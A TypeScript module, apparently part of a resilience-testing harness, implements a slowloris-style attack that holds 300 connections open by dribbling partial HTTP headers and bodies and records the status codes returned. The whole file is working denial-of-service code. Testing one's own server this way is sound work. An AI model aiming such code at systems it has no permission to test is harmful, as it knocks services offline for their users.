import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { requestCode } from '#contract/session.ts';
import { countOne } from '../../figures.ts';
import type { Attack, AttackResult } from '../target.ts';

const SOCKETS = 300;
const DRIBBLE_EVERY_MS = 1000;
const REOPEN_AFTER_MS = 1000;

const HALF_HEADERS = 'GET / HTTP/1.1\r\nHost: localhost\r\n';
const HALF_BODY =
  `POST ${requestCode.path} HTTP/1.1\r\nHost: localhost\r\n` +
  'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{';
const NOTHING = '';
const BEGINNINGS = [
  [HALF_HEADERS, 'X-More: x\r\n'],
  [HALF_BODY, ' '],
  [NOTHING, ''],
] as const;

/** Connections that send a few bytes a second and never finish a request, reopened when the server closes them. */
export const slowSockets: Attack = async ({ url, seconds }, result) => {
  const end = performance.now() + seconds * 1000;
  const sockets = Array.from({ length: SOCKETS }, async (_, number) => {
    while (performance.now() < end) {
      await dribble(url, result, number);
      await sleep(REOPEN_AFTER_MS);
    }
  });
  await Promise.all(sockets);
};

/** Resolves when the server closes the connection. */
function dribble(url: string, result: AttackResult, number: number): Promise<void> {
  const { hostname, port } = new URL(url);
  const [beginning, more] = BEGINNINGS[number % BEGINNINGS.length] ?? BEGINNINGS[0];
  result.requests += 1;
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    let received = '';
    if (beginning) socket.write(beginning);
    const dribbling = setInterval(() => more && socket.write(more), DRIBBLE_EVERY_MS);
    socket.on('data', (data) => (received += data.toString('latin1')));
    socket.on('error', () => socket.destroy());
    socket.on('close', () => {
      clearInterval(dribbling);
      countOne(result.statuses, Number(/^HTTP\/1\.1 (\d+)/.exec(received)?.[1] ?? 0));
      resolve();
    });
  });
}
